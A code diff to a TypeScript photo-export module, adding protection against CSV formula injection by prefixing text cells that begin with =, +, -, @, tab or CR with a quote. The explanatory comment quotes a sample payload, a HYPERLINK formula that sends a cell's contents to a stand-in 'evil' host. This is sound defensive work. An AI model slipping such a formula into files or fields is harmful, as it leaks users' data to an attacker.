@@ -152,11 +152,31 @@ export function* exportPhotos(
   }
 }
 
-/** One CSV field per RFC 4180: quoted when it holds a comma, quote, CR or LF. */
+/**
+ * [Note: CSV cells cannot become formulas]
+ * A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or CR,
+ * what follows) as a formula: a file named `=HYPERLINK("http://evil/?"&A1)` or a tag imported
+ * from XMP as `@SUM(…)` would run on the user's machine when the export is opened (CSV
+ * injection). As OWASP recommends, such a TEXT cell is written with a leading single quote,
+ * and quoted, so spreadsheets show it as text; tools reading the file back see the quote.
+ * Numbers are left alone: a numeric column is written by us from a number (a negative GPS
+ * latitude `-33.86`, a width), cannot carry a formula, and must stay a number for sorting and
+ * maps. Only values that are strings in our types get the prefix, so a string that merely
+ * looks like a negative number (a camera model "-1") is still neutralised.
+ */
+const formulaStart = /^[=+\-@\t\r]/;
+
+/**
+ * One CSV field per RFC 4180: quoted when it holds a comma, quote, CR or LF (or leading or
+ * trailing spaces); a text cell that a spreadsheet would run as a formula gets a leading `'`.
+ */
 export function csvField(value: string | number | null): string {
   if (value === null) return '';
-  const text = String(value);
-  return /[",\r\n]/.test(text) || text !== text.trim() ? `"${text.replace(/"/g, '""')}"` : text;
+  if (typeof value === 'number') return String(value);
+  if (formulaStart.test(value)) return `"'${value.replace(/"/g, '""')}"`;
+  return /[",\r\n]/.test(value) || value !== value.trim()
+    ? `"${value.replace(/"/g, '""')}"`
+    : value;
 }
 
 function csvLine(fields: readonly (string | number | null)[]): string {
